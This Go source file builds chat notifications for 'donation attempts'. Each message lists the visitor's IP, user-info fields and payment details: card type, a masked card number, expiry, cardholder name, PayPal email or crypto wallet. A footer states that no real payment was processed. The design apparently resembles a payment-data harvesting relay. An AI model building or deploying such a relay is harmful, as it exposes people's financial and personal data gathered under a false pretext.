package notify

import (
	"errors"
	"fmt"
	"strings"

	"github.com/MGIFOGOIOGPY/payment-hams/cards"
	"github.com/MGIFOGOIOGPY/payment-hams/models"
)

// MaxMessageSize is the delivery endpoint's hard limit on message text.
const MaxMessageSize = 4096

var ErrMessageTooLarge = errors.New("composed message exceeds delivery size limit")

const missingValue = "N/A"

// Message is the composed notification: an ordered list of display lines,
// immutable after composition.
type Message struct {
	lines []string
}

func (m *Message) Lines() []string {
	out := make([]string, len(m.lines))
	copy(out, m.lines)
	return out
}

// Text returns the lines joined for delivery.
func (m *Message) Text() string {
	return strings.Join(m.lines, "\n")
}

// Compose renders the notification for a sanitized record. Sections are
// fixed: header banner, basic info, user info, a method-specific payment
// block (omitted for bank/unknown), and a closing disclaimer. The record's
// values must already be sanitized; markup tags added here are the only
// markup in the output. Compose never truncates: output past
// MaxMessageSize is an error.
func Compose(rec *models.IntakeRecord) (*Message, error) {
	lines := []string{
		"<b>🚨 NEW DONATION ATTEMPT 🚨</b>",
		"",
		"<b>Basic Info:</b>",
		fmt.Sprintf("💰 Amount: <code>$%s</code>", rec.Amount),
		fmt.Sprintf("💳 Method: <code>%s</code>", strings.ToUpper(string(rec.Method))),
		fmt.Sprintf("🌐 IP: <code>%s</code>", rec.SourceIP),
		fmt.Sprintf("🕒 Time: <code>%s</code>", rec.Timestamp.Format(models.TimeLayout)),
		fmt.Sprintf("📡 Via: <code>%s</code>", rec.Verb),
		"",
		"<b>User Info:</b>",
	}

	if rec.UserInfo.Kind == models.KindObject {
		for _, m := range rec.UserInfo.Obj {
			lines = append(lines, fmt.Sprintf("🔹 %s: <code>%s</code>", m.Key, displayOr(m.Value)))
		}
	} else {
		lines = append(lines, "🔹 no user info provided")
	}

	lines = append(lines, paymentBlock(rec)...)

	lines = append(lines,
		"",
		"<b>⚠️ THIS IS JUST A RECORD - NO REAL PAYMENT WAS PROCESSED ⚠️</b>",
	)

	msg := &Message{lines: lines}
	if len(msg.Text()) > MaxMessageSize {
		return nil, ErrMessageTooLarge
	}
	return msg, nil
}

func paymentBlock(rec *models.IntakeRecord) []string {
	switch rec.Method {
	case models.MethodCard:
		number := detail(rec, "cardNumber", "card_number")
		return []string{
			"",
			"<b>Payment Details:</b>",
			fmt.Sprintf("🔸 Card Type: <code>%s</code>", cards.Classify(number)),
			fmt.Sprintf("🔸 Card Number: <code>%s</code>", cards.MaskNumber(number)),
			fmt.Sprintf("🔸 Expiry: <code>%s</code>", detail(rec, "expiry")),
			fmt.Sprintf("🔸 Name: <code>%s</code>", detail(rec, "name")),
		}
	case models.MethodPaypal:
		return []string{
			"",
			"<b>Payment Details:</b>",
			fmt.Sprintf("🔸 Email: <code>%s</code>", detail(rec, "email")),
		}
	case models.MethodCrypto:
		return []string{
			"",
			"<b>Payment Details:</b>",
			fmt.Sprintf("🔸 Coin: <code>%s</code>", detail(rec, "cryptoType", "crypto_type")),
			fmt.Sprintf("🔸 Wallet: <code>%s</code>", detail(rec, "wallet")),
		}
	default:
		return nil
	}
}

// detail looks up a payment-details key under any of the given names.
// Missing keys and non-object detail payloads both render the placeholder.
func detail(rec *models.IntakeRecord, keys ...string) string {
	for _, key := range keys {
		if v, ok := rec.PaymentDetails.Get(key); ok {
			return displayOr(v)
		}
	}
	return missingValue
}

func displayOr(v models.Value) string {
	if s := v.Display(); s != "" {
		return s
	}
	return missingValue
}
